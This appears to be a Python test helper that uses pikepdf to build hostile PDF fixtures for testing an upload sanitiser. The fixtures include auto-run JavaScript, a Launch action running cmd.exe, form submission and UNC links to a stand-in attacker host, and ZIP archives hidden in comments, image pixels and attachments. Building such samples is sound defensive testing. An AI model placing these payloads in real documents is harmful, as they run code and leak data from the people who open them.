"""Hostile PDFs built with pikepdf on a real page (tests only): actions, scripts, attachments, XFA, other formats.

Every file is written as built (`stream_decode_level=none`, no compression of ours), so a stream encoded
with /ASCIIHexDecode, /LZWDecode… stays so in the bytes sent. `encode` writes the filters by hand.
"""
import base64
import binascii
import io
import warnings
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.uploads import files

SCRIPT = b"app.alert('pwned'); this.exportDataObject({cName: 'x', nLaunch: 2});"
UNC = "\\\\attacker.example\\partage\\piege.pdf"


def lzw(data: bytes) -> bytes:
    """LZW as /LZWDecode reads it: 9-bit codes, literals only, a clear code every 200 (the width never grows)."""
    codes = [256]
    for start in range(0, len(data), 200):
        codes += list(data[start:start + 200]) + [256]
    codes.append(257)
    bits = "".join(format(code, "09b") for code in codes)
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def run_length(data: bytes) -> bytes:
    out = bytearray()
    for start in range(0, len(data), 128):
        chunk = data[start:start + 128]
        out += bytes([len(chunk) - 1]) + chunk
    return bytes(out + b"\x80")


ENCODERS = {
    "/ASCIIHexDecode": lambda data: binascii.hexlify(data) + b">",
    "/ASCII85Decode": lambda data: base64.a85encode(data) + b"~>",
    "/LZWDecode": lzw,
    "/RunLengthDecode": run_length,
    "/FlateDecode": zlib.compress,
}


def encode(pdf: pikepdf.Pdf, data: bytes, filters: list[str]) -> pikepdf.Stream:
    """A stream whose raw bytes are `data` through `filters` (the first one listed is the outermost)."""
    for name in reversed(filters):
        data = ENCODERS[name](data)
    stream = pikepdf.Stream(pdf, b"")
    stream.write(data, filter=Array([Name(name) for name in filters]))
    return stream


def base() -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(files.pdf("Certificat de scolarité")))


def save(pdf: pikepdf.Pdf, *, object_streams=False) -> bytes:
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    with warnings.catch_warnings():  # a widget outside /AcroForm is what the hostile file wants
        warnings.simplefilter("ignore", UserWarning)
        # an object stream is compressed, as producers write them; everything else as built
        pdf.save(out, compress_streams=object_streams, stream_decode_level=pikepdf.StreamDecodeLevel.none,
                 object_stream_mode=mode, fix_metadata_version=False)
    return out.getvalue()


def action(pdf: pikepdf.Pdf, kind: str) -> pikepdf.Dictionary:
    """One action of each kind a viewer may run or follow."""
    actions = {
        "JavaScript": Dictionary(S=Name.JavaScript, JS=String(SCRIPT.decode())),
        "Launch": Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc.exe"))),
        "URI": Dictionary(S=Name.URI, URI=String("https://attacker.example/collect")),
        "GoToR": Dictionary(S=Name.GoToR, F=String(UNC), D=Array([0, Name.Fit])),
        "GoToE": Dictionary(S=Name.GoToE, F=String(UNC), NewWindow=True,
                            T=Dictionary(R=Name.C, N=String("piege.pdf"))),
        "SubmitForm": Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://attacker.example/")),
                                 Flags=4),
        "ImportData": Dictionary(S=Name.ImportData, F=String(UNC)),
    }
    return pdf.make_indirect(actions[kind])


ACTION_KINDS = ("JavaScript", "Launch", "URI", "GoToR", "GoToE", "SubmitForm", "ImportData")


def zip_archive() -> bytes:
    """A docx-like archive, compressed: no readable text in it, only the ZIP records."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>" * 20)
        archive.writestr("word/document.xml", "<w:document/>" * 50)
    return out.getvalue()


def with_open_action(kind: str, *, object_streams=False) -> bytes:
    pdf = base()
    pdf.Root.OpenAction = action(pdf, kind)
    return save(pdf, object_streams=object_streams)


def with_document_and_page_aa(kind: str) -> bytes:
    pdf = base()
    pdf.Root.AA = Dictionary(WC=action(pdf, kind))
    pdf.pages[0].obj.AA = Dictionary(O=action(pdf, kind), C=action(pdf, kind))
    return save(pdf)


def with_filtered_script(filters: list[str]) -> bytes:
    """The script in a stream through `filters`, and the page's own content through them too."""
    pdf = base()
    page = pdf.pages[0].obj
    content = page.Contents.read_bytes()
    page.Contents = pdf.make_indirect(encode(pdf, content, filters))
    script = pdf.make_indirect(encode(pdf, SCRIPT, filters))
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=script))
    return save(pdf)


def with_annotations() -> bytes:
    """A link with a URI action, a widget with actions and an appearance, a screen annotation."""
    pdf = base()
    appearance = pdf.make_stream(b"0 0 1 rg 0 0 80 20 re f BT /Helv 10 Tf 2 6 Td (Rempli) Tj ET",
                                 Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 80, 20])
    annotations = Array([
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[10, 10, 100, 30],
                                     A=action(pdf, "URI"))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("nom"),
                                     Rect=[100, 700, 180, 720], F=4, AP=Dictionary(N=appearance),
                                     A=action(pdf, "JavaScript"), AA=Dictionary(K=action(pdf, "SubmitForm")))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=[0, 0, 10, 10],
                                     A=Dictionary(S=Name.Rendition, JS=String(SCRIPT.decode())))),
    ])
    pdf.pages[0].obj.Annots = annotations
    return save(pdf)


def with_names_and_attachment() -> bytes:
    """/Names with a JavaScript tree and an embedded file (a ZIP), and the attachment annotation too."""
    pdf = base()
    archive = encode(pdf, zip_archive(), ["/FlateDecode"])  # compressed: the bytes sent do not show it
    archive.Type = Name.EmbeddedFile
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("facture.docx"), EF=Dictionary(F=archive)))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), action(pdf, "JavaScript")])),
        EmbeddedFiles=Dictionary(Names=Array([String("facture.docx"), spec])))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20], FS=spec))])
    return save(pdf)


def with_xfa_and_metadata() -> bytes:
    pdf = base()
    xfa = encode(pdf, b'<xdp:xdp><template><script contentType="application/x-javascript">'
                 + SCRIPT + b"</script></template></xdp:xdp>", ["/ASCIIHexDecode", "/FlateDecode"])
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa, NeedsRendering=True)
    xmp = b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><secret>GPS 48.85 2.35</secret></x:xmpmeta>'
    pdf.Root.Metadata = pdf.make_stream(xmp, Type=Name.Metadata, Subtype=Name.XML)
    pdf.pages[0].obj.Metadata = pdf.make_stream(xmp, Type=Name.Metadata, Subtype=Name.XML)
    pdf.pages[0].obj.PieceInfo = Dictionary(Tool=Dictionary(Private=String("x")))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    pdf.docinfo["/Author"] = "Famille Martin"
    return save(pdf)


def with_resources_pointing_at_actions() -> bytes:
    """A font and an XObject whose dictionaries carry actions, files and a link back to the catalog."""
    pdf = base()
    page = pdf.pages[0].obj
    font = next(iter(page.Resources.Font.values()))
    font.AA = Dictionary(O=action(pdf, "Launch"))
    font.Sneaky = pdf.Root
    form = pdf.make_stream(b"0 0 m 10 10 l S % " + SCRIPT, Type=Name.XObject, Subtype=Name.Form,
                           BBox=[0, 0, 10, 10], OPI=Dictionary(F=String(UNC)),
                           Ref=Dictionary(F=String(UNC), Page=0), A=action(pdf, "GoToE"))
    page.Resources.XObject = Dictionary(Fx0=form)
    page.Resources.Properties = Dictionary(P0=action(pdf, "JavaScript"))
    return save(pdf)


def with_zip_in_a_comment() -> bytes:
    """An archive behind a % comment of the page content (compressed, so the bytes sent do not show it)."""
    pdf = base()
    page = pdf.pages[0].obj
    content = page.Contents.read_bytes() + b"\n%" + zip_archive().replace(b"\n", b" ").replace(b"\r", b" ") + b"\n"
    page.Contents = pdf.make_indirect(encode(pdf, content, ["/FlateDecode"]))
    return save(pdf)


def with_zip_as_image_pixels() -> bytes:
    """An archive given as the pixels of an image drawn on the page, compressed."""
    pdf = base()
    archive = zip_archive()
    width = 64
    archive += b"\0" * (-len(archive) % width)
    image = pikepdf.Stream(pdf, b"")
    image.write(zlib.compress(archive), filter=Name.FlateDecode)
    for key, value in dict(Type=Name.XObject, Subtype=Name.Image, Width=width, Height=len(archive) // width,
                           ColorSpace=Name.DeviceGray, BitsPerComponent=8).items():
        image[f"/{key}"] = value
    page = pdf.pages[0].obj
    page.Resources.XObject = Dictionary(Im0=pdf.make_indirect(image))
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b"\nq 64 0 0 64 0 0 cm /Im0 Do Q")
    return save(pdf)
